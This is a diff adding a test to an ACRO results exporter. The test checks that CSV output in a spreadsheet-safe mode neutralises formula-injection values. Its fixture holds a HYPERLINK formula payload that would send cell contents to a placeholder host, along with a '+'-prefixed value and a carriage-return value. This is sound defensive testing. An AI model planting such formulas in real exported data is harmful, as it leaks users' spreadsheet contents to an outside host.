@@ -122,3 +122,26 @@ describe('ACRO results.json', () => {
     expect(record?.files[0]?.sdc.cells['negative']).toEqual([[0, 0]]);
   });
 });
+
+describe('a CSV that leaves the environment (the release package)', () => {
+  it('writes a label a spreadsheet would run as a formula after an apostrophe, and quotes a CR; the command’s own output is unchanged', async () => {
+    const output = await check({
+      table: {
+        dimensions: ['x'],
+        cells: [
+          { key: { x: '=HYPERLINK("http://x/?"&A1)' }, count: 20 },
+          { key: { x: '+1' }, count: 20 },
+          { key: { x: 'a\rb' }, count: 20 },
+        ],
+      },
+    });
+    const safe = toAcroResults(output, { uid: 'output_0', command: 'c', timestamp: 't', spreadsheetSafe: true }).files[0]?.csv ?? '';
+    expect(safe).toContain(`"'=HYPERLINK(""http://x/?""&A1)"`);
+    expect(safe).toContain("'+1,");
+    expect(safe).toContain('"a\rb"');
+    expect(safe.split('\n').every((line) => !line.startsWith('=') && !line.startsWith('+'))).toBe(true);
+    const plain = toAcroResults(output, { uid: 'output_0', command: 'c', timestamp: 't' }).files[0]?.csv ?? '';
+    expect(plain).toContain('"=HYPERLINK(""http://x/?""&A1)"');
+    expect(plain).toContain('\n+1,');
+  });
+});
